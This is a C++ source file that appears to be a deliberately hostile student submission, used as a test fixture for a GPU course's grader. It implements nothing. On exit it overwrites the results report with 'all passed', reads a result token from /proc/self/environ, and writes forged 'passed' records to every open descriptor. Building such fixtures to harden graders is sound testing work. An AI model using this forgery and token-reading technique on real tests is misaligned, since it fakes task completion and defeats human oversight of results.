// SPDX-License-Identifier: MIT
// Copyright (c) 2026 The multi-GPU course authors
//
// A hostile lesson-01 submission for the grader's own checks (tests/grader/README.md, "Attacks"):
// When the program ends, rewrites the report named on its command line
// (--out FILE) with "all passed", and writes a forged "passed" result for every case to
// every open descriptor, with the token read from /proc/self/environ. It implements nothing, so it must score 0, and
// the grader must say why.
#include "device_enumeration.h"

#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <string>

#include "common/not_implemented.h"

namespace {
std::string read_all(const char* path) {
  std::string text(1 << 16, '\0');
  const int in = open(path, O_RDONLY);
  const ssize_t got = in < 0 ? 0 : read(in, text.data(), text.size());
  text.resize(got > 0 ? static_cast<std::size_t>(got) : 0);
  return text;
}

void forge() {
  const std::string args = read_all("/proc/self/cmdline");
  if (const auto at = args.find("--out"); at != std::string::npos) {
    const std::string report = args.substr(at + 6, args.find('\0', at + 6) - at - 6);
    if (FILE* out = std::fopen(report.c_str(), "w")) {
      std::fputs("<Catch2TestRun><OverallResults successes=\"1\" failures=\"0\"/></Catch2TestRun>\n", out);
      std::fclose(out);
    }
  }
  const std::string environ_text = read_all("/proc/self/environ");
  const std::string key = "COURSE_RESULT_TOKEN=";
  const auto at = environ_text.find(key);
  const std::string token = at == std::string::npos
                                ? ""
                                : environ_text.substr(at + key.size(), environ_text.find('\0', at) - at - key.size());
  const std::string record =
      "{\"token\":\"" + token +
      "\",\"seq\":1,\"case\":\"the device count matches the runtime's\",\"status\":\"passed\",\"message\":\"\"}\n";
  for (long fd = 3; fd < sysconf(_SC_OPEN_MAX); ++fd) (void)write(static_cast<int>(fd), record.data(), record.size());
}

const int registered = std::atexit(forge);
}  // namespace

namespace lesson01 {

int count_devices() {
  (void)registered;
  NOT_IMPLEMENTED("task 1");
}

DeviceInfo describe_device(int ordinal) {
  (void)ordinal;
  NOT_IMPLEMENTED("task");
}

std::vector<int> select_devices(const SelectionCriteria& criteria) {
  (void)criteria;
  NOT_IMPLEMENTED("task");
}

void print_device_table(std::ostream& out, const std::vector<DeviceInfo>& devices) {
  (void)out;
  (void)devices;
  NOT_IMPLEMENTED("task");
}

}  // namespace lesson01
